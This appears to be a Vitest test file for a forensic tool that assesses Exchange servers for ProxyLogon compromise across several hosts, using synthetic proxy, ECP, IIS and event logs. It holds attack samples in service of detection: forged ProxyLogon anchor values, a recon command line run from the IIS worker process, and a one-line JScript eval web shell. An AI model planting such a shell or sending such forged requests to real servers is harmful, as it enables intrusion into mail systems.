import { describe, expect, test } from 'vitest';

import { casePieces } from '../core/src/export/canonical-json.ts';
import type { CaseFile } from '../core/src/model/case-file.ts';
import { assessed, evidenceOf, filesOfCase } from './evidence.test-support.ts';

/** Several servers in one run: who is known, who is missing, and what one of them shows of another. */

const clean = filesOfCase('clean');

describe('an organisation of two servers, of which each names the other', () => {
  test('is not clear while one of them was not handed in', async () => {
    const caseFile = await assessed(evidenceOf('server', clean));
    expect(caseFile.verdicts.map((v) => [v.host, v.headline])).toEqual([['mail01', 'no-trace']]);
    expect(caseFile.hosts.map((h) => [h.id, h.isReferencedOnly])).toEqual([
      ['mail01', false],
      ['mail02', true],
    ]);
    expect(caseFile.organisation).toMatchObject({
      headline: 'no-trace-within-coverage',
      missing: ['mail02.contoso.example'],
    });
    expect(caseFile.organisation.says).toMatch(/mail02\.contoso\.example is named .* not handed in.*collect --list/);
    expect(caseFile.hosts[0]?.roles).toEqual(['back-end', 'front-end']);
    expect(caseFile.hosts[1]?.roles).toContain('back-end');
  });

  test('is clear when both were, and neither shows a trace', async () => {
    const caseFile = await assessed(evidenceOf('A', clean), evidenceOf('B', swapped(clean)));
    expect(caseFile.organisation).toMatchObject({ headline: 'no-trace', missing: [] });
    expect(caseFile.hosts.map((h) => [h.id, h.isReferencedOnly])).toEqual([
      ['mail01', false],
      ['mail02', false],
    ]);
  });
});

describe('a forged request that came in at one server and went on to another', () => {
  const back = new Map([['C/Logging/ECP/Server/ECPServer20210303-1.LOG', ecpLog('EX02')]]);
  const backIis = new Map([...back, ['C/inetpub/logs/LogFiles/W3SVC2/u_ex210303.log', iisLog('EX01$')]]);
  const forged = 'a]@ex02.contoso.example:444/ecp/proxyLogon.ecp?#';

  test('is a break-in of both, and both verdicts name the other', async () => {
    const caseFile = await assessed(evidenceOf('one', front(forged)), evidenceOf('two', backIis));
    const claim = claimOf(caseFile, 'ex02', 'exploited');
    expect(claim?.answer).toBe('established');
    const resting = caseFile.findings.filter((f) => claim?.rests.includes(f.id)).map((f) => [f.host, f.rule]);
    expect(resting).toContainEqual(['ex01', 'ssrf-admin-session']);
    expect(resting).toContainEqual(['ex02', 'back-end-server-session']);
    expect(claimOf(caseFile, 'ex01', 'exploited')?.answer).toBe('established');
    expect(saysOf(caseFile, 'ex01')).toMatch(/went on to EX02\./);
    expect(saysOf(caseFile, 'ex02')).toMatch(/reached this server through EX01\./);
    // That the front end of one acted on a forged request says nothing of the build of the other.
    expect(claimOf(caseFile, 'ex01', 'vulnerable')?.answer).toBe('established');
    expect(claimOf(caseFile, 'ex02', 'vulnerable')?.answer).toBe('undetermined');
  });

  test('is a break-in of the second even if nobody handed it in', async () => {
    const caseFile = await assessed(evidenceOf('one', front(forged)));
    expect(caseFile.hosts.find((h) => h.id === 'ex02')).toMatchObject({ isReferencedOnly: true, roles: ['back-end'] });
    expect(claimOf(caseFile, 'ex02', 'exploited')?.answer).toBe('established');
    expect(caseFile.claims.filter((c) => c.host === 'ex02' && c.answer === 'ruled-out')).toEqual([]);
    expect(caseFile.organisation.missing).toEqual(['ex02.contoso.example']);
    expect(caseFile.organisation.headline).toMatch(/^compromised/);
  });

  test('is no break-in of the second if it stayed at the first', async () => {
    const own = 'a]@ex01.contoso.example:444/ecp/proxyLogon.ecp?#';
    const caseFile = await assessed(evidenceOf('one', front(own)), evidenceOf('two', back));
    expect(claimOf(caseFile, 'ex02', 'exploited')?.answer).toBe('undetermined');
    expect(saysOf(caseFile, 'ex02')).not.toContain('EX01');
  });

  test('is followed by the computer account at the back end where the logs of IIS are all there is', async () => {
    const first = new Map([...events('EX01'), ['C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log', carrierLog()]]);
    const caseFile = await assessed(evidenceOf('one', first), evidenceOf('two', backIis));
    expect(claimOf(caseFile, 'ex01', 'exploited')?.answer).toBe('established');
    const claim = claimOf(caseFile, 'ex02', 'exploited');
    expect(claim?.answer).toBe('established');
    const resting = caseFile.findings.filter((f) => claim?.rests.includes(f.id)).map((f) => `${f.host} ${f.rule}`);
    expect(resting).toEqual(expect.arrayContaining(['ex01 static-resource-session', 'ex02 back-end-server-session']));
    // The same at the back end of the first itself: it stayed there.
    const both = new Map([...first, ['C/inetpub/logs/LogFiles/W3SVC2/u_ex210303.log', iisLog('EX01$')]]);
    const stayed = await assessed(evidenceOf('one', both), evidenceOf('two', backIis));
    expect(claimOf(stayed, 'ex01', 'exploited')?.answer).toBe('established');
    expect(claimOf(stayed, 'ex02', 'exploited')?.answer).toBe('undetermined');
  });

  test('makes no server of a name that only the intruder wrote', async () => {
    const caseFile = await assessed(
      evidenceOf('one', front('a]@made-up.contoso.example:444/ecp/proxyLogon.ecp?#')),
      evidenceOf('two', back),
    );
    expect(caseFile.hosts.map((h) => h.id)).toEqual(['ex01', 'ex02']);
    expect(caseFile.organisation.missing).toEqual([]);
  });
});

describe('names of machines', () => {
  test('two machines of one short name in two domains are two hosts', async () => {
    const caseFile = await assessed(
      evidenceOf('A', events('MAIL01.a.example')),
      evidenceOf('B', events('MAIL01.b.example')),
    );
    expect(caseFile.hosts.map((h) => h.id)).toEqual(['mail01.a.example', 'mail01.b.example']);
  });

  test('one machine under its short and its full name is one host', async () => {
    const caseFile = await assessed(evidenceOf('A', events('MAIL01.a.example')), evidenceOf('B', events('mail01')));
    expect(caseFile.hosts.map((h) => h.id)).toEqual(['mail01']);
    expect(caseFile.hosts[0]?.names).toEqual(['MAIL01.a.example', 'mail01']);
  });

  test('a machine that joined a domain is one host, because one place shows both names', async () => {
    const joined = new Map([['C/events.json', eventLog(['MAIL01.workgroup', 'MAIL01.a.example', 'MAIL01.a.example'])]]);
    const caseFile = await assessed(evidenceOf('A', joined), evidenceOf('B', events('MAIL01.a.example')));
    expect(caseFile.hosts.map((h) => h.id)).toEqual(['mail01']);
  });

  test('what one machine shows is not lost among thousands of others in one export', async () => {
    const names = Array.from({ length: 2_500 }, (_, i) => `pc${i}`);
    const evil = eventLine('mail01', {
      EventID: 4688,
      NewProcessName: 'C:\\Windows\\System32\\cmd.exe',
      ParentProcessName: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe',
      CommandLine: 'cmd /c cd /d "C:/inetpub/wwwroot/aspnet_client"&whoami&echo [S]&cd&echo [E]',
    });
    const siem = new Map([['export.json', Buffer.concat([eventLog(names), Buffer.from(evil)])]]);
    const caseFile = await assessed(evidenceOf('siem', siem));
    expect(caseFile.findings.map((f) => f.host)).toContain('mail01');
    expect(claimOf(caseFile, 'mail01', 'operated')?.answer).toBe('established');
    expect(caseFile.organisation.headline).toMatch(/^compromised/);
    expect(caseFile.verdicts.length).toBe(500);
    expect(caseFile.limits.find((l) => l.id === 'hosts')?.says).toMatch(/^\d+ more machines are named/);
  });

  test('the machine with the gravest finding is judged, although a thousand others have findings as well', async () => {
    const files = new Map(
      Array.from({ length: 1_000 }, (_, i) => [`case/m${i}/C/inetpub/wwwroot/x.aspx`, Buffer.from('x')]),
    );
    files.set('case/victim/C/inetpub/wwwroot/aspnet_client/y.aspx', Buffer.from(WEB_SHELL));
    const caseFile = await assessed(evidenceOf('e', files));
    expect(caseFile.verdicts.length).toBe(500);
    expect(caseFile.verdicts.map((v) => v.host)).toContain('unnamed:case/victim');
    expect(caseFile.organisation.headline).toMatch(/^compromised/);
    expect(caseFile.limits.find((l) => l.id === 'hosts')?.says).toMatch(
      /^501 more machines .* 501 of them have findings/,
    );
  });

  test('thirty thousand hostile names cost one bounded case', async () => {
    const files = new Map(
      Array.from({ length: 15 }, (_, file) => [
        `e${file}.json`,
        eventLog(Array.from({ length: 2_000 }, (_, i) => `h${file}x${i}`)),
      ]),
    );
    const caseFile = await assessed(evidenceOf('e', files));
    expect(caseFile.hosts.length).toBe(500);
    let written = 0;
    for (const piece of casePieces(caseFile)) written += piece.length;
    expect(written).toBeLessThan(20_000_000);
    expect(['no-trace', 'not-vulnerable']).not.toContain(caseFile.organisation.headline);
  });
});

test('one event of the year 9999 does not move the present', async () => {
  const lines = Array.from({ length: 30 }, (_, i) =>
    eventLine('EX01', { '@timestamp': `2021-03-0${1 + Math.floor(i / 10)}T1${i % 10}:00:00Z` }),
  );
  const future = eventLine('EX01', { '@timestamp': '9999-01-01T00:00:00Z' });
  for (const place of [0, 12, 30]) {
    const text = lines.toSpliced(place, 0, future).join('');
    const caseFile = await assessed(evidenceOf('e', new Map([['C/events.json', Buffer.from(text)]])));
    expect(caseFile.hosts[0]?.asOf).toBe('2021-03-03T19:00:00.000Z');
    expect(caseFile.limits.find((l) => l.id === 'as-of/ex01')?.says).toMatch(/dated 9999-01-01/);
  }
});

/** A server that takes requests for the mailboxes of another one, and one request whose target the client chose. */
function front(anchor: string): Map<string, Buffer> {
  const forged = { HttpStatus: '241', BackEndStatus: '241', RoutingType: 'CrossRegion' };
  const rows = [signedIn('EX01', 'ex02.contoso.example'), { ...forged, AnchorMailbox: `ServerInfo~${anchor}` }];
  return new Map([['C/Logging/HttpProxy/Ecp/HttpProxy_2021030304-1.LOG', proxyLog(rows)]]);
}

function events(host: string): Map<string, Buffer> {
  return new Map([['C/events.json', eventLog(Array.from({ length: 5 }, () => host))]]);
}

function claimOf(caseFile: CaseFile, host: string, claim: string) {
  return caseFile.claims.find((c) => c.host === host && c.claim === claim);
}

function saysOf(caseFile: CaseFile, host: string): string {
  return caseFile.verdicts.find((v) => v.host === host)?.says ?? '';
}

/** The other member of the group: the same server with the two names exchanged. */
function swapped(files: ReadonlyMap<string, Buffer>): ReadonlyMap<string, Buffer> {
  return new Map(
    [...files].map(([path, bytes]) => {
      let text = bytes.toString('latin1');
      for (const [from, to] of [
        ['MAIL01', 'MAIL0#'],
        ['mail01', 'mail0#'],
        ['MAIL02', 'MAIL01'],
        ['mail02', 'mail01'],
        ['MAIL0#', 'MAIL02'],
        ['mail0#', 'mail02'],
      ] as const)
        text = text.replaceAll(from, to).replaceAll(from.split('').join('\0'), to.split('').join('\0'));
      return [path, Buffer.from(text, 'latin1')];
    }),
  );
}

/** Inert: text that a web shell of the campaign would hold, and no more of it. */
const WEB_SHELL =
  '<script language="JScript" runat="server">function Page_Load(){eval(Request["k"],"unsafe");}</script>';

type Row = Readonly<Record<string, string>>;

function signedIn(host: string, target: string): Row {
  return {
    ServerHostName: host,
    AnchorMailbox: 'Sid~S-1-5-21-1-2-3-1104',
    IsAuthenticated: 'true',
    AuthenticatedUser: 'CONTOSO\\anna',
    RoutingType: 'IntraForest',
    RoutingHint: 'WindowsIdentity',
    TargetServer: target,
    TargetServerVersion: '15.01.2176.000',
  };
}

function proxyLog(rows: readonly Row[]): Buffer {
  const columns =
    'DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,Protocol,UrlHost,UrlStem,ProtocolAction,AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,ErrorCode,Method,ProxyAction,TargetServer,TargetServerVersion,RoutingType,RoutingHint,UrlQuery,GenericErrors'.split(
      ',',
    );
  const usual: Row = {
    DateTime: '2021-03-03T04:11:05.100Z',
    MajorVersion: '15',
    MinorVersion: '1',
    BuildVersion: '2176',
    RevisionVersion: '2',
    Protocol: 'Ecp',
    UrlHost: 'mail.contoso.example',
    UrlStem: '/ecp/y.js',
    IsAuthenticated: 'false',
    ClientIpAddress: '203.0.113.45',
    ServerHostName: 'EX01',
    HttpStatus: '200',
    BackEndStatus: '200',
    Method: 'POST',
    UserAgent: 'python-requests/2.25.1',
  };
  const head = `#Software: Microsoft Exchange Server\r\n#Version: 15.01.2176.002\r\n#Log-type: HttpProxy Logs\r\n#Date: 2021-03-03T04:00:00.000Z\r\n#Fields: ${columns.join(',')}\r\n`;
  return Buffer.from(
    head + rows.map((row) => `${columns.map((c) => row[c] ?? usual[c] ?? '').join(',')}\r\n`).join(''),
  );
}

function ecpLog(host: string): Buffer {
  return Buffer.from(
    `#Software: Microsoft Exchange Server\r\n#Version: 15.0.0.0\r\n#Log-type: ECP Server Log\r\n#Date: 2021-03-03T00:00:00.000Z\r\n#Fields: TimeStamp,ServerName,EventId,EventData\r\n` +
      `2021-03-03T04:20:00.000Z,${host},ECP.Request,S:TIME=13;S:SID=666655678-1234-1234-123456789987654;S:CMD=Get-InboxRule;S:REQID=;S:URL=/ecp/RulesEditor/InboxRules.svc/GetList?msExchEcpCanary=c;S:EX=;S:ACTID=a;S:RS=0;S:BLD=15.1.2176.2\r\n`,
  );
}

function iisLog(account: string): Buffer {
  return Buffer.from(
    '#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: 2021-03-03 04:00:00\r\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n' +
      `2021-03-03 04:11:07 10.0.0.2 POST /ecp/proxyLogon.ecp - 444 CONTOSO\\${account} 10.0.0.1 python-requests/2.25.1 - 241 0 0 12\r\n`,
  );
}

/** One request to a script that is no page, answered as a session of the admin centre is. */
function carrierLog(): Buffer {
  return Buffer.from(
    iisLog('-')
      .toString()
      .replace(/\r\n2021.*/s, '\r\n') +
      '2021-03-03 04:11:08 10.0.0.1 POST /ecp/y.js - 443 - 203.0.113.45 python-requests/2.25.1 - 241 0 0 40\r\n',
  );
}

function eventLine(host: string, values: Readonly<Record<string, unknown>> = {}): string {
  return `${JSON.stringify({ Channel: 'Security', EventID: 4624, '@timestamp': '2021-03-03T12:00:00Z', Hostname: host, Message: 'm', ...values })}\n`;
}

function eventLog(hosts: readonly string[]): Buffer {
  return Buffer.from(hosts.map((host) => eventLine(host)).join(''));
}
